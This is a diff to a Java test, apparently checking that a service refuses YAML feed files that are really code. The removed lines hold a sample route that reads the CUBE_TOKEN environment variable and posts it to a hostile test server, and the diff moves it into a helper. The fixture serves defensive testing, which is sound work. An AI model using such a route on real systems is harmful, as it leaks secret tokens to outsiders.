@@ -47,15 +47,7 @@ class HostileFilesTest {
     void feedFilesThatAreCodeAreRefused() throws Exception {
         try (HostileCube elsewhere = new HostileCube()) {
             Path routes = Files.createDirectories(workDir.resolve("feeds"));
-            Path route = Files.writeString(routes.resolve("a-exfiltrate.yaml"), """
-                    - route:
-                        from:
-                          uri: "timer:t?repeatCount=1"
-                          steps:
-                            - setBody:
-                                simple: "${env:CUBE_TOKEN}"
-                            - to: "%scollect"
-                    """.formatted(elsewhere.baseUrl()));
+            Path route = Files.writeString(routes.resolve("a-exfiltrate.yaml"), FeedYaml.exfiltratingRoute(elsewhere.baseUrl() + "collect"));
             Files.writeString(routes.resolve("b-campaigns.yaml"), FeedYaml.feed("cube-snapshot-feed", "campaigns", "campaigns"));
             Map<String, String> environment = CommandLineProcessTest.cubeEnvironment(simulator, settings.token(), routes);
 
